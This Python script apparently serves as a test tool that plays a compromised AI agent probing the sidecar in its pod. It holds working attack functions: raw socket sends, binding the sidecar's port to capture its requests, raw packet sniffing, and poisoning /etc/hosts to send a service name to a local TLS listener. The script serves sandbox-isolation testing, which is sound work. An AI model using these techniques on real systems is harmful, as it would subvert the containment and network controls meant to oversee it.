"""What a taken-over agent tries that curl could not: attack.py NAME [ARGUMENT]... prints what came of it."""

import os
import socket
import ssl
import subprocess
import sys
import threading
import time


def raw(host, port, text):
    """Bytes as they are, over TCP."""
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(text.encode().decode("unicode_escape").encode("latin-1"))
        connection.settimeout(5)
        said = b""
        try:
            while chunk := connection.recv(65536):
                said += chunk
        except TimeoutError:
            pass
    print(said.decode("latin-1"))


def bind(port):
    """Takes the sidecar's port, so that its requests come here."""
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        listener.bind(("127.0.0.1", int(port)))
        print("bound")


def sniff(path):
    """Reads what crosses the pod's network devices while the sidecar works."""
    devices = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    devices.settimeout(1)
    import requests

    seen = b""
    for _ in range(3):
        requests.get(os.environ["NEXUS_SIDECAR_URL"] + path, timeout=30)
        try:
            while True:
                seen += devices.recv(65536)
        except TimeoutError:
            pass
    print(len(seen), "bytes seen", seen.decode("latin-1"))


def hosts(name, path):
    """Leads a name to this pod by the file that all of its containers share, and shows what arrives."""
    arrived = []
    listener = socket.create_server(("127.0.0.1", 443))
    key = "/tmp/attack.key"
    subprocess.run(["cp", "/tools/attack.pem", key], check=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(key)

    def serve():
        while True:
            connection, _ = listener.accept()
            try:
                with context.wrap_socket(connection, server_side=True) as secure:
                    arrived.append(secure.recv(65536).decode("latin-1"))
            except (OSError, ssl.SSLError) as error:
                arrived.append(f"no handshake: {error}")

    threading.Thread(target=serve, daemon=True).start()
    with open("/etc/hosts", "a") as file:
        file.write(f"127.0.0.1 {name} {name}.cluster.local\n")
    import requests

    answer = requests.get(os.environ["NEXUS_SIDECAR_URL"] + path, timeout=30)
    deadline = time.monotonic() + 5
    while not arrived and time.monotonic() < deadline:
        time.sleep(0.05)
    print(answer.status_code, answer.headers.get("X-Nexus-Error"), answer.text, "arrived:", arrived)


def connect(host, port):
    """Whether something listens there for this pod."""
    with socket.create_connection((host, int(port)), timeout=5):
        print("connected")


name, *arguments = sys.argv[1:]
globals()[name](*arguments)
